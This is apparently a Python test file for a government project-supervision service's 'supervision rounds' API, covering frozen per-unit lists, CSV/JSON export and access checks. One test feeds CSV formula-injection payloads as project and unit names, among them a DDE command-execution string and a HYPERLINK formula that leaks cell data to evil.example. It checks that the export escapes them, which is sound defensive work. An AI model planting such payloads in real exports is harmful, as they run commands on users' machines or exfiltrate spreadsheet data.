"""Supervision rounds (每月一督导): a frozen list per unit, read back as JSON or CSV."""
import csv
import io
import random

from services.alerts.rules.escalation import first_tuesday
from tests.alerts.facts import event, known, project, scan, send, today, unit
from tests.support.api import client


async def test_a_round_freezes_coloured_projects_and_open_tasks_per_unit(platform, alerts):
    owner = unit(name="城东街道", kind="street")
    # No planned dates: the milestones service schedules nothing, so these are the only alerts.
    red = project(owner.id, name="城东污水处理厂", stage="signed", stage_dates={"signed": "2027-01-10"})
    yellow = project(owner.id, name="城东学校扩建", stage="signed", stage_dates={"signed": "2027-03-20"})
    calm = project(owner.id, name="城东公园")
    await send(platform, event(owner, owner.id), *(event(p, p.id) for p in (red, yellow, calm)))
    for p in (red, yellow, calm):
        await known(alerts, p.id)
    await scan(alerts, "2027-07-15")
    on = f"{random.randint(2040, 2990)}-0{random.randint(1, 9)}-1{random.randint(0, 9)}"
    created = await alerts.post("/api/v1/supervision-rounds", json={"date": on})
    assert created.status_code == 201, created.text
    body = created.json()
    assert body["date"] == on
    [mine] = [u for u in body["units"] if u["unit_id"] == owner.id]
    assert (mine["unit_name"], mine["red_projects"], mine["yellow_projects"]) == ("城东街道", 1, 1)
    assert {p["name"]: p["colour"] for p in mine["projects"]} == {"城东污水处理厂": "red", "城东学校扩建": "yellow"}
    [task] = mine["tasks"]
    assert task["project_name"] == "城东污水处理厂" and task["status"] == "open" and task["late"] is True

    assert (await alerts.post("/api/v1/supervision-rounds", json={"date": on})).status_code == 409
    again = await alerts.get(f"/api/v1/supervision-rounds/{body['id']}")
    assert again.status_code == 200 and again.json() == body

    exported = await alerts.get(f"/api/v1/supervision-rounds/{body['id']}", params={"format": "csv"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    ours = [r for r in rows if r["unit_name"] == "城东街道"]
    assert {(r["item"], r["project_name"]) for r in ours} == {
        ("project", "城东污水处理厂"), ("project", "城东学校扩建"), ("task", "城东污水处理厂")}
    by_accept = await alerts.get(f"/api/v1/supervision-rounds/{body['id']}", headers={"Accept": "text/csv"})
    assert by_accept.text == exported.text
    listed = (await alerts.get("/api/v1/supervision-rounds", params={"limit": 500})).json()["items"]
    assert body["id"] in {r["id"] for r in listed}


async def test_the_default_supervision_day_is_this_months_first_tuesday(platform, alerts):
    now = today()
    expected = first_tuesday(now.year, now.month).isoformat()
    response = await alerts.post("/api/v1/supervision-rounds", json={})
    assert response.status_code in (201, 409), response.text  # 409: a previous run of this test froze it already
    if response.status_code == 201:
        assert response.json()["date"] == expected
    async with client(platform.url("alerts"), "tasks:write", unit_id="some-unit") as town:
        assert (await town.post("/api/v1/supervision-rounds", json={"date": "2031-01-07"})).status_code == 403
    assert (await alerts.get("/api/v1/supervision-rounds/nope")).status_code == 404


async def test_the_round_csv_escapes_names_a_spreadsheet_would_run(platform, alerts):
    """Seen: a project named =HYPERLINK(...) was exported raw in the supervision-round CSV supervisors open in Excel."""
    owner = unit(name="=CMD|' /C calc'!A0", kind="street")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
    red = project(owner.id, name=hostile, stage="signed", stage_dates={"signed": "2027-01-10"})
    others = [project(owner.id, name=name, stage="signed", stage_dates={"signed": "2027-01-10"})
              for name in ("+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "普通项目")]
    await send(platform, event(owner, owner.id), *(event(p, p.id) for p in (red, *others)))
    for p in (red, *others):
        await known(alerts, p.id)
    await scan(alerts, "2027-07-15")
    on = f"{random.randint(2040, 2990)}-1{random.randint(0, 2)}-2{random.randint(0, 8)}"
    body = (await alerts.post("/api/v1/supervision-rounds", json={"date": on})).json()
    exported = await alerts.get(f"/api/v1/supervision-rounds/{body['id']}", params={"format": "csv"})
    rows = [r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))) if r["item"] == "project"
            and r["unit_code"] == owner.code]
    names = {r["project_name"] for r in rows}
    assert "'" + hostile in names and hostile not in names
    assert {"'+SUM(1,2)", "'-2+3", "'@SUM(A1)", "'\tTAB", "普通项目"} <= names
    assert {r["unit_name"] for r in rows} == {"'=CMD|' /C calc'!A0"}
